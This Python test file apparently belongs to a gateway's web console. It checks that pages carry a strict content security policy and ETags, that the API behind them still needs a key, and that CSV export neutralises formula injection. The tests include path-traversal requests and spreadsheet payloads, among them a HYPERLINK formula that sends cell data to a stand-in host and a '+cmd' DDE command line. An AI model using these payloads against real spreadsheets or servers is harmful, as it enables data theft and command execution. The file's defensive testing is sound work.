"""The console's page and assets: served from the package without a key, with a strict content security
policy and revalidation by ETag; the API behind it still needs a key. No browser needed."""

from __future__ import annotations

import re

import httpx

from gateway.api.console import CSP
from gateway.console import STATIC
from tests.console.conftest import Console


async def test_page_and_assets_need_no_key_and_carry_csp_and_etag(console: Console) -> None:
    async with httpx.AsyncClient(base_url=console.base) as http:
        redirect = await http.get("/console")
        assert redirect.status_code == 308 and redirect.headers["location"] == "console/"
        page = await http.get("/console/")
        assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
        csp = page.headers["content-security-policy"]
        assert csp == CSP and "default-src 'self'" in csp and "'unsafe-inline'" not in csp and "http" not in csp
        assert page.headers["x-content-type-options"] == "nosniff"
        assert page.headers["cache-control"] == "no-cache"
        # Everything the page loads is a relative path on this origin: nothing from a CDN.
        loaded = re.findall(r'(?:src|href)="([^"]+)"', page.text)
        assert "app.js" in loaded and "console.css" in loaded
        # Its own icon: a browser that finds none asks for /favicon.ico, which needs a key, and every refused
        # request spends the address's budget of refusals (a fresh sign-in could then answer 429).
        assert "favicon.svg" in loaded
        icon = await http.get("/console/favicon.svg")
        assert icon.status_code == 200 and icon.headers["content-type"].startswith("image/svg+xml")
        assert not [u for u in loaded if "//" in u]
        for name in sorted(p.name for p in STATIC.iterdir()):
            asset = await http.get(f"/console/{name}")
            assert asset.status_code == 200, name
            assert asset.headers["content-security-policy"] == CSP
            etag = asset.headers["etag"]
            again = await http.get(f"/console/{name}", headers={"If-None-Match": etag})
            assert again.status_code == 304, name  # unchanged: revalidated, not sent again
            if name.endswith(".js"):
                assert asset.headers["content-type"].startswith("text/javascript")  # ES modules insist
                text = asset.text.replace('"http://www.w3.org/2000/svg"', "")  # a namespace name, not a fetch
                assert "http://" not in text and "https://" not in text, name
        # The CSP is the console's: the API and /docs keep their own headers.
        assert "content-security-policy" not in (await http.get("/healthz")).headers
        missing = await http.get("/console/nope.js")
        assert missing.status_code == 404
        # Counted under their own endpoint label, not as "unmatched" requests.
        assert 'nl2sql_requests_total{endpoint="/console",status="304"}' in (await http.get("/metrics")).text


async def test_the_api_behind_the_console_still_needs_a_key(console: Console) -> None:
    async with httpx.AsyncClient(base_url=console.base) as http:
        assert (await http.get("/v1/whoami")).status_code == 401
        assert (await http.get("/console/../v1/whoami")).status_code == 401  # no way round through the prefix
        assert (await http.get("/console/%2e%2e/v1/databases")).status_code in {401, 404}


def test_csv_download_neutralises_cells_a_spreadsheet_would_run() -> None:
    """Rows are untrusted: `=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)` must reach the CSV as text, not formulas,
    while plain numbers (negative ones included) stay numbers. Runs the console's own table.js under Node."""
    import json
    import shutil
    import subprocess
    from pathlib import Path

    import pytest

    node = shutil.which("node")
    if node is None:
        pytest.skip("Node.js is not installed")
    table = Path(__file__).resolve().parents[2] / "gateway" / "console" / "static" / "table.js"
    cells = ['=HYPERLINK("http://x.example/?"&A1;"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "\tx", "-x",
             "-5", "-2.5e3", "plain", "a,b"]
    script = (f"import {{ toCSV }} from {json.dumps(table.as_uri())};\n"
              f"process.stdout.write(toCSV([{{name: 'v'}}], {json.dumps([[c] for c in cells])}));\n")
    out = subprocess.run([node, "--input-type=module", "-e", script], capture_output=True, text=True, check=True)
    lines = out.stdout.split("\n")  # text mode reads the CSV's CRLF line ends as newlines
    assert lines[0] == "v"
    assert lines[1] == '"\'=HYPERLINK(""http://x.example/?""&A1;""click"")"'
    assert lines[2:5] == ["'+cmd|' /C calc'!A0", "'@SUM(1)", "'\tx"]
    assert lines[5] == "'-x"
    assert lines[6:10] == ["-5", "-2.5e3", "plain", '"a,b"']
